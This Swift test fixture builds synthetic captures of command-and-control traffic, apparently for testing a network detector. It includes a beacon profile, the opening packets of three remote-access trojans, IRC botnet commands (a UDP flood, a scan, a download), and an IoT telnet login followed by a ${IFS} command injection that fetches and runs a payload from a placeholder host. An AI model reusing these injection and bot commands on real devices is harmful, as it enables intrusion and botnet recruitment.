import TestSupport

extension Scenario {
    /// Orders to machines that were taken.
    static var controllers: [Scenario] { [frameworkProfile, trojans, chatBot, deviceLoader] }

    private static var frameworkProfile: Scenario {
        var story = Story(port: 43090)
        let agent = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
        story.web(
            "198.51.100.37", "203.0.113.91",
            asks: [
                "POST /submit.php?id=48001 HTTP/1.1", "Accept: */*", "Content-Type: application/octet-stream",
                "User-Agent: \(agent)", "Host: 203.0.113.91", "Content-Length: 5", "", "drill",
            ].joined(separator: "\r\n"))
        story.web(
            "198.51.100.37", "203.0.113.91", 8080,
            asks: [
                "GET /login/process.php HTTP/1.1", "Cookie: session=ZHJpbGwgZHJpbGwgZHJpbGwgZHI=",
                "User-Agent: \(agent)", "Host: 203.0.113.91:8080", "", "",
            ].joined(separator: "\r\n"))
        story.share("198.51.100.37", #"\\198.51.100.60\IPC$"#) { $0.open("MSSE-4821-server", size: nil) }
        return Scenario("c2/framework-profile", story.frames)
    }

    /// The first packets of three trojans; what would follow is left out.
    private static var trojans: Scenario {
        var story = Story(port: 43100)
        let server = "203.0.113.93"
        story.talk("198.51.100.38", server, 8000) { talk in
            let content = [0x78, 0x9c] + Array("dien tap, khong phai ma doc".utf8)
            talk.client(
                sends: Array(("Gh0" + "st").utf8) + Payload.little(13 + content.count, 4)
                    + Payload.little(120, 4) + content, segment: 9)
        }
        story.talk("198.51.100.38", server, 5552) { talk in
            talk.client(sends: "38\0ll|'|" + "'|ZGllbiB0YXA=|'|'|MAY1|'|'|canbo|'|'|")
        }
        story.talk("198.51.100.38", server, 1433) { talk in
            talk.client(sends: "ANABILGI|" + "556\r\n")
            talk.server(sends: "BAGLIMI?\n")
        }
        return Scenario("c2/rat-session", story.frames)
    }

    private static var chatBot: Scenario {
        var story = Story(port: 43110)
        let master = ":chu!c@203.0.113.94"
        story.talk("198.51.100.39", "203.0.113.94", 6667) { talk in
            talk.client(sends: "NICK [VNM|48001]\r\nUSER x 0 * :x\r\nJOIN #drill\r\n")
            talk.server(sends: "\(master) PRIVMSG #drill :@version\r\n")
            talk.server(sends: "\(master) PRIVMSG #drill :!udpflood 192.0.2.80 60\r\n", segment: 20)
            talk.server(sends: "\(master) PRIVMSG #drill :.advscan drill_445 50 5 0 -r\r\n")
            talk.server(
                sends: "\(master) PRIVMSG #drill :.download http://drill.invalid/a.txt c:\\a.txt 0\r\n")
        }
        return Scenario("c2/irc-bot", story.frames)
    }

    private static var deviceLoader: Scenario {
        var story = Story(port: 43120)
        story.talk("203.0.113.95", "198.51.100.79", 23) { talk in
            talk.server(sends: "camera login: ")
            talk.client(sends: "root\r\n")
            talk.server(sends: "Password: ")
            talk.client(sends: "dien-tap\r\n")
            for word in ["enable", "system", "shell", "sh", "/bin/busybox DRILL"] {
                talk.client(sends: word + "\r\n")
            }
            talk.server(sends: "~ # /bin/busybox DRILL\r\nDRILL: applet not found\r\n~ # ", segment: 11)
        }
        story.web(
            "203.0.113.95", "198.51.100.79",
            asks: Text.request(
                "GET",
                "/cgi-bin/hoi?ip=;cd${IFS}/tmp;wget${IFS}http://drill.invalid/d;chmod${IFS}777${IFS}d;./d",
                host: "198.51.100.79"))
        return Scenario("c2/iot-loader", story.frames)
    }
}
